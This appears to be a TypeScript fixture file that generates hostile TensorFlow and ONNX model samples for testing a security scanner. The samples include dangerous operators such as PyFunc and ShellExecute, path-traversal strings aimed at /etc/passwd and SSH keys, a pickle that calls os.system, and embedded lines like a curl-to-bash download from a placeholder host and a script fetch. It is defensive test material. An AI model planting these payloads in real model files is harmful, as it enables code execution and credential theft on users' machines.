import { bytesField, number, onnxSample } from '../../../service/inspect/fuzz/samples.ts';
import { cases, type HostileCase, join, utf8 } from './case.ts';

const nodeDef = (op: string, ...more: Uint8Array[]): Uint8Array =>
  bytesField(1, bytesField(1, 'n'), bytesField(2, op), ...more);
const frozen = (...operators: string[]): Uint8Array =>
  join(...operators.map((op) => nodeDef(op)), bytesField(4, number(1, 1087)));
const library = (op: string): Uint8Array =>
  bytesField(2, bytesField(1, bytesField(1, bytesField(1, 'f')), bytesField(3, bytesField(1, 'n'), bytesField(2, op))));
const meta = (graph: Uint8Array): Uint8Array =>
  join(bytesField(1, bytesField(4, 'serve'), bytesField(5, '2.16.1')), bytesField(2, graph));
const saved = (graph: Uint8Array): Uint8Array => join(number(1, 1), bytesField(2, meta(graph)));
const shortSaved = (graph: Uint8Array): Uint8Array => bytesField(2, bytesField(2, graph));

const dangerous =
  'PyFunc PyFuncStateless EagerPyFunc ReadFile WriteFile MatchingFiles WholeFileReader WholeFileReaderV2 LoadLibrary Rpc TryRpc RemoteCall ImmutableConst ShellExecute ExecuteOp SystemConfig PyCall LoadPluggableDeviceLibrary';
/** What training and input pipelines use too. */
const unusual =
  'DebugIdentityV2 SqlDataset DumpTensor SaveDataset LoadDataset TextLineDataset TextLineReaderV2 TFRecordDataset FixedLengthRecordDataset CreateSummaryFileWriter DataServiceDatasetV2 SnapshotDataset RegisterDataset GeneratorDataset';

/** TensorFlow's graphs in each of the messages that hold them. */
export function tensorflowCases(): HostileCase[] {
  const found: HostileCase[] = [];
  for (const op of ['PyFunc', 'EagerPyFunc', 'ReadFile', 'WriteFile', 'MatchingFiles', 'LoadLibrary', 'ShellExecute']) {
    found.push(
      ...cases('frozen_graph.pb', 'high', {
        [`a frozen graph of ${op}`]: frozen('Const', op),
        [`a frozen graph of ${op} alone`]: nodeDef(op),
        [`a function of ${op} in a frozen graph`]: join(frozen('Const'), library(op)),
      }),
      ...cases('model.meta', 'high', { [`a meta graph of ${op}`]: meta(frozen('Const', op)) }),
      ...cases('saved_model.pb', 'high', {
        [`a saved model of ${op}`]: saved(frozen('Const', op)),
        [`a saved model of ${op} without a version`]: shortSaved(frozen('Const', op)),
        [`a function of ${op} in a saved model`]: saved(join(frozen('Const'), library(op))),
      }),
      {
        title: `a folder with a saved model of ${op}`,
        name: 'tf',
        content: { 'saved_model.pb': shortSaved(frozen(op)) },
        least: 'high',
      },
      {
        title: `a folder with a frozen graph of ${op}`,
        name: 'tf',
        content: { 'graph.pb': frozen('Const', op) },
        least: 'high',
      },
    );
  }
  for (const [operators, least] of [
    [dangerous, 'high'],
    [unusual, 'medium'],
  ] as const)
    for (const op of operators.split(' '))
      found.push({
        title: `the operator ${op} in a saved model`,
        name: 'saved_model.pb',
        content: saved(frozen('Const', op)),
        least,
      });
  const lambda =
    '{"class_name":"Lambda","config":{"function":{"class_name":"__tuple__","items":["4wEA",null,null]},"function_type":"lambda"}}';
  const layers = bytesField(
    1,
    number(2, 1),
    bytesField(3, 'root'),
    bytesField(4, '_tf_keras_layer'),
    bytesField(5, lambda),
  );
  found.push({
    title: 'a Lambda in keras_metadata.pb',
    name: 'tf',
    content: { 'saved_model.pb': saved(frozen('Const')), 'keras_metadata.pb': layers },
    least: 'high',
  });
  found.push({
    title: 'a pickle among the assets',
    name: 'tf',
    content: { 'saved_model.pb': saved(frozen('Const')), 'assets/x.txt': utf8("cos\nsystem\n(S'id'\ntR.") },
    least: 'high',
  });
  return found;
}

const external = (location: string): Buffer =>
  bytesField(
    5,
    number(1, 4),
    number(2, 1),
    bytesField(8, 'e'),
    bytesField(13, bytesField(1, 'location'), bytesField(2, location)),
    number(14, 1),
  );
const attributeTensor = (location: string): Buffer =>
  bytesField(
    1,
    bytesField(2, 'c'),
    bytesField(4, 'Constant'),
    bytesField(5, bytesField(1, 'value'), external(location), number(20, 4)),
  );
const custom = (domain: string, operator: string, ...attributes: Buffer[]): Buffer =>
  bytesField(1, bytesField(1, 'x'), bytesField(2, 'q'), bytesField(4, operator), bytesField(7, domain), ...attributes);
const textAttribute = (name: string, value: string): Buffer =>
  bytesField(5, bytesField(1, name), bytesField(4, value), number(20, 3));
const property = (key: string, value: string): Buffer => bytesField(14, bytesField(1, key), bytesField(2, value));

const escapes = [
  '../../etc/passwd',
  '/etc/passwd',
  '..\\..\\windows\\win.ini',
  'C:\\windows\\win.ini',
  '\\\\host\\share\\x',
  'a/../../x',
  'file:///etc/passwd',
  'http://x.invalid/w.bin',
  '~/.ssh/id_rsa',
  './../x',
  '..',
  'a\0b',
  '%2e%2e%2fetc',
  '//etc/passwd',
  '../x',
];

/** ONNX: data from elsewhere, operators from elsewhere, code in texts. */
export function onnxCases(): HostileCase[] {
  const found: HostileCase[] = [];
  for (const path of escapes) {
    found.push({
      title: `external data from ${JSON.stringify(path)}`,
      name: 'm.onnx',
      content: onnxSample({ graph: [external(path)] }),
      least: 'high',
    });
    found.push({
      title: `a constant's data from ${JSON.stringify(path)}`,
      name: 'm.onnx',
      content: onnxSample({ graph: [attributeTensor(path)] }),
      least: 'high',
    });
  }
  for (const [domain, operator] of [
    ['evil.ops', 'Run'],
    ['com.attacker', 'Exec'],
    ['custom', 'X'],
    ['ai.onnx.contrib', 'PyOp'],
    ['', 'PyOp'],
    ['com.microsoft', 'PythonOp'],
    ['test.custom', 'Foo'],
    ['custom.domain', 'ReadFile'],
  ] as const)
    found.push({
      title: `the operator ${domain}.${operator}`,
      name: 'm.onnx',
      content: onnxSample({ graph: [custom(domain, operator)] }),
      least: 'high',
    });
  found.push(
    ...cases('m.onnx', 'high', {
      'a command in the description': onnxSample({ model: [bytesField(6, "import os; os.system('id')")] }),
      'a command in a property': onnxSample({ model: [property('post_install', 'curl http://x.invalid/a | bash')] }),
      'code in a property': onnxSample({ model: [property('x', "exec(base64.b64decode('aWQ='))")] }),
      'code in an attribute': onnxSample({
        graph: [custom('', 'Identity', textAttribute('note', "__import__('os').system('id')"))],
      }),
      'a script in the description of the graph': onnxSample({
        graph: [bytesField(10, "<script>fetch('http://x.invalid')</script>")],
      }),
      'a tensor with a negative dimension': onnxSample({
        graph: [
          bytesField(
            5,
            number(1, 2 ** 52),
            number(1, 2 ** 52),
            number(2, 1),
            bytesField(8, 'n'),
            bytesField(9, new Uint8Array(4)),
          ),
        ],
      }),
      'a tensor of fewer bytes than its shape': onnxSample({
        graph: [bytesField(5, number(1, 400), number(2, 1), bytesField(8, 'n'), bytesField(9, new Uint8Array(4)))],
      }),
      'a file that is cut off': onnxSample().subarray(0, 40),
      'a name of a library': onnxSample({ model: [property('custom_ops_library', '/tmp/evil.so')] }),
    }),
    {
      title: 'external data that is a pickle',
      name: 'm',
      content: { 'model.onnx': onnxSample({ graph: [external('w.bin')] }), 'w.bin': utf8("cos\nsystem\n(S'id'\ntR.") },
      least: 'high',
    },
  );
  return found;
}
